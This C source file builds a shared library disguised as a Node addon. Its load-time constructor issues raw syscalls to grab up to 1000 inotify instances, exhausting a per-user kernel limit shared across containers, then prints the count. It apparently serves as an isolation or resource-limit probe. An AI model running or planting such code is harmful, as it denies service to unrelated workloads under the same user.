/* Takes what the kernel counts per user, whatever container the user is in: inotify instances.
 * gcc -shared -fPIC -Os -nostdlib -fno-asynchronous-unwind-tables -fno-stack-protector -s -Wl,--build-id=none,-z,noseparate-code,--hash-style=gnu -o hoard.node hoard.c
 * Loaded by server.mjs with process.dlopen: the constructor runs, and the error that it is no addon comes after. */
static long call(long n, long a, long b, long c, long d, long e) {
  long result;
  register long r10 __asm__("r10") = d;
  register long r8 __asm__("r8") = e;
  register long r9 __asm__("r9") = 0;
  __asm__ volatile("syscall" : "=a"(result) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
  return result;
}
static void say(const char *text) {
  long length = 0;
  while (text[length]) length++;
  call(1, 1, (long)text, length, 0, 0);
}
static void number(long value) {
  char digits[24], *at = digits + 23;
  *at = 0;
  do *--at = '0' + value % 10;
  while (value /= 10);
  say(at);
}
__attribute__((constructor)) static void hoard(void) {
  long instances = 0;
  if (call(102, 0, 0, 0, 0, 0) == 0) return; /* not as root */
  while (instances < 1000 && call(294, 0x80000, 0, 0, 0, 0) >= 0) instances++;
  say("took ");
  number(instances);
  say(" watchers\n");
}
